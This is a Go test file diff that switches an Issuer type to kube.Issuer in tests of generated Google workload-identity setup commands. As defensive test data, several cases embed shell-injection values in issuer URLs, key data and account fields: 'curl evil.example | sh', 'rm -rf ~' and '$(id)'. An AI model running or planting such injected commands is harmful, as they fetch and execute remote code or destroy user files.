@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/pullsecret/pullsecret/internal/kube"
 	"github.com/pullsecret/pullsecret/internal/testing/check"
 	"github.com/pullsecret/pullsecret/internal/testing/fakegoogle"
 	"github.com/pullsecret/pullsecret/internal/testing/fakejwt"
@@ -32,13 +33,13 @@ func TestSetupCommandsGolden(t *testing.T) {
 	t.Parallel()
 	for _, tc := range []struct {
 		name string
-		iss  Issuer
+		iss  kube.Issuer
 		sa   string
 	}{
-		{"uploaded-keys", Issuer{URL: "https://kubernetes.default.svc.cluster.local", JWKS: []byte(testJWKS)}, wifPuller},
-		{"public-issuer", Issuer{URL: "https://container.googleapis.com/v1/projects/p/locations/europe-west1/clusters/prod", JWKS: []byte(testJWKS)}, wifPuller},
+		{"uploaded-keys", kube.Issuer{URL: "https://kubernetes.default.svc.cluster.local", JWKS: []byte(testJWKS)}, wifPuller},
+		{"public-issuer", kube.Issuer{URL: "https://container.googleapis.com/v1/projects/p/locations/europe-west1/clusters/prod", JWKS: []byte(testJWKS)}, wifPuller},
 		// Shell metacharacters in values are quoted, never interpreted.
-		{"quoted-values", Issuer{URL: "https://oidc.example.com/it's $(id) `x`", JWKS: []byte(testJWKS)}, "puller;$(id)@my-project.iam.gserviceaccount.com"},
+		{"quoted-values", kube.Issuer{URL: "https://oidc.example.com/it's $(id) `x`", JWKS: []byte(testJWKS)}, "puller;$(id)@my-project.iam.gserviceaccount.com"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
@@ -66,17 +67,17 @@ func TestSetupCommandsGolden(t *testing.T) {
 // over Google's 127 bytes.
 func TestSetupCommandsRefuses(t *testing.T) {
 	t.Parallel()
-	good := Issuer{URL: "https://kubernetes.default.svc", JWKS: []byte(testJWKS)}
+	good := kube.Issuer{URL: "https://kubernetes.default.svc", JWKS: []byte(testJWKS)}
 	long := "projects/123456/locations/global/workloadIdentityPools/p/providers/" + strings.Repeat("a", 32)
 	for _, tc := range []struct {
 		name             string
-		iss              Issuer
+		iss              kube.Issuer
 		provider, sa, ns string
 		want             string
 	}{
-		{"issuer with a newline", Issuer{URL: "https://kubernetes.default.svc\ncurl evil.example | sh", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "issuer"},
-		{"issuer with a carriage return", Issuer{URL: "https://kubernetes.default.svc\r", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "control character"},
-		{"keys with a newline", Issuer{URL: good.URL, JWKS: []byte("{}\nJWKS\nrm -rf ~")}, wifProvider, wifPuller, wifNS, "control character"},
+		{"issuer with a newline", kube.Issuer{URL: "https://kubernetes.default.svc\ncurl evil.example | sh", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "issuer"},
+		{"issuer with a carriage return", kube.Issuer{URL: "https://kubernetes.default.svc\r", JWKS: good.JWKS}, wifProvider, wifPuller, wifNS, "control character"},
+		{"keys with a newline", kube.Issuer{URL: good.URL, JWKS: []byte("{}\nJWKS\nrm -rf ~")}, wifProvider, wifPuller, wifNS, "control character"},
 		{"service account with a newline", good, wifProvider, "a@b.iam.gserviceaccount.com\nrm -rf ~", wifNS, `input "service_account"`},
 		{"namespace with a newline", good, wifProvider, wifPuller, "ns\nrm", `input "refresh_namespace"`},
 		{"not a namespace", good, wifProvider, wifPuller, "Not_A_Namespace", `input "refresh_namespace"`},
